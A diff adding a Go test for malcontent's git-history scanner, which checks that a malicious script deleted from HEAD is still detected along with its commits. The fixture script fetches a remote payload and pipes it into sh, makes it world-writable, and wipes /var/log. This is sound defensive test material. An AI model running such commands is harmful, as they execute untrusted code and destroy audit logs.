@@ -0,0 +1,122 @@
+// Copyright 2024 Chainguard, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package action
+
+import (
+	"context"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/chainguard-dev/malcontent/pkg/malcontent"
+	"github.com/chainguard-dev/malcontent/rules"
+	thirdparty "github.com/chainguard-dev/malcontent/third_party"
+	"github.com/go-git/go-git/v5"
+	"github.com/go-git/go-git/v5/plumbing/object"
+)
+
+func TestScanGitHistory(t *testing.T) {
+	t.Parallel()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	repo, err := git.PlainInit(root, false)
+	if err != nil {
+		t.Fatalf("init: %v", err)
+	}
+	wt, err := repo.Worktree()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	commit := func(msg string) string {
+		t.Helper()
+		h, err := wt.Commit(msg, &git.CommitOptions{
+			AllowEmptyCommits: true,
+			Author:            &object.Signature{Name: "test", Email: "test@example.com", When: time.Now()},
+		})
+		if err != nil {
+			t.Fatalf("commit: %v", err)
+		}
+		return h.String()
+	}
+	write := func(name string, content string) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := wt.Add(name); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	write("README", "nothing to see here\n")
+	base := commit("initial")
+
+	// The payload is added, copied unchanged, then deleted again
+	write("payload.sh", script)
+	added := commit("add payload")
+	write("copy.sh", script)
+	copied := commit("copy payload")
+	for _, name := range []string{"payload.sh", "copy.sh"} {
+		if _, err := wt.Remove(name); err != nil {
+			t.Fatal(err)
+		}
+	}
+	commit("remove payload")
+
+	c := malcontent.Config{Concurrency: 1, Rules: yrs}
+	res, err := ScanGitHistory(ctx, c, root, "")
+	if err != nil {
+		t.Fatalf("ScanGitHistory: %v", err)
+	}
+
+	v, ok := res.Files.Load("payload.sh")
+	if !ok {
+		t.Fatal("no report for payload.sh, which was deleted from HEAD")
+	}
+	fr, ok := v.(*malcontent.FileReport)
+	if !ok || len(fr.Behaviors) == 0 {
+		t.Fatalf("payload.sh = %+v, want behaviors", v)
+	}
+	for _, b := range fr.Behaviors {
+		if got := fr.Meta[gitFirstCommitMeta+b.ID]; got != added {
+			t.Errorf("first commit of %s = %q, want %q", b.ID, got, added)
+		}
+		if got := fr.Meta[gitLastCommitMeta+b.ID]; got != copied {
+			t.Errorf("last commit of %s = %q, want %q", b.ID, got, copied)
+		}
+	}
+
+	if v, ok := res.Files.Load("copy.sh"); !ok {
+		t.Error("no report for copy.sh")
+	} else if fr := v.(*malcontent.FileReport); len(fr.Behaviors) == 0 {
+		t.Errorf("copy.sh = %+v, want the same behaviors as payload.sh", fr)
+	}
+
+	if _, ok := res.Files.Load("README"); ok {
+		t.Error("README reported without behaviors")
+	}
+
+	// Commits up to and including sinceRef are not scanned
+	res, err = ScanGitHistory(ctx, c, root, copied)
+	if err != nil {
+		t.Fatalf("ScanGitHistory since %s: %v", copied, err)
+	}
+	if _, ok := res.Files.Load("payload.sh"); ok {
+		t.Errorf("payload.sh reported when scanning since %s", copied)
+	}
+	if _, err := ScanGitHistory(ctx, c, root, base+"0"); err == nil {
+		t.Error("ScanGitHistory with an unknown ref succeeded, want error")
+	}
+}